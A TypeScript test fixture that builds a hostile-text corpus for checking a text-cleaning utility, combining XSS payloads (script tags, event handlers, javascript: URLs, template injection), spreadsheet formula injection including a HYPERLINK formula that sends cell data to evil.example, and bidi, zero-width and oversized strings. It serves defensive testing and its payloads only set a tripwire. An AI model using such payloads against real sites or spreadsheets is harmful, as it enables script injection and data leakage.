import { INVISIBLE_CONTROLS } from '../../../utils/text/clean';

// The hostile-text corpus of issue 13, shared by the unit suite (happy-dom) and the Chromium suite
// (tests/e2e/hostile-text.chromium.e2e.ts). Every payload that runs sets `window.__tripwire` (or calls alert):
// the tests watch for that.

const PAYLOADS = [
  '<script>window.__tripwire = 1</script>',
  '<img src=x onerror="window.__tripwire=1">',
  '<svg onload="window.__tripwire=1"><circle r=5/></svg>',
  '<a href="javascript:window.__tripwire=1">x</a>',
  'javascript:window.__tripwire=1',
  'data:text/html,<script>window.__tripwire=1</script>',
  '"><iframe srcdoc="<script>parent.__tripwire=1</script>">',
  '{{constructor.constructor("window.__tripwire=1")()}}',
  '<details open ontoggle="window.__tripwire=1">x</details>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '+SUM(1,2)',
  '-2+3',
  '@cmd',
  '\u202Egnp.exe',
  'Jana\u2066Schmidt\u2069',
  'Ali\u061C\u200F',
  'zero\u200Bwidth\uFEFF',
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}',
  '\u{1F3F3}\uFE0F\u200D\u{1F308}',
  'می\u200Cخواهم',
  'Zoe\u0308 Ba\u0301rbara',
  'e\u0301\u0302\u0303\u0304',
  'مرحبا بكم',
  'שלום עולם',
  '日本語の名前',
  'Ｊａｎａ',
  `Ä${'\u{1F600}'.repeat(60)}`,
];

const FRAMES = [
  (p: string) => p,
  (p: string) => `Jana ${p}`,
  (p: string) => `${p} Schmidt`,
  (p: string) => `  ${p}\n\t${p}  `,
  (p: string) => `Dr. ${p} (LION)`,
  (p: string) => `${p}${p}`,
  (p: string) => `${p}\n${p}`,
  (p: string) => `<b>${p}</b> & <i>x</i>`,
];

/** Hostile page text, generated: markup, handlers, script URLs, SVG, formulas, bidi and zero-width marks, emoji, marks, RTL, size. */
export function hostileCorpus(): string[] {
  const out = PAYLOADS.flatMap((p) => FRAMES.map((f) => f(p)));
  for (let n = 0; n < 20; n++) out.push(`${'Name'.repeat(2500)}${n}`, `${String(n).repeat(10_000)}`);
  for (let n = 0; n < 10; n++) out.push(`${'\u{1F600}'.repeat(400 + n)}`, `${'a\u0301'.repeat(5000)}${n}`);
  return out;
}

/** What must be kept of a text: all of it but the invisible controls and folded white space (before any cap). */
export const keptOf = (raw: string): string => raw.normalize('NFC').replace(new RegExp(`[${INVISIBLE_CONTROLS}]`, 'g'), '').replace(/\s+/g, ' ').trim();
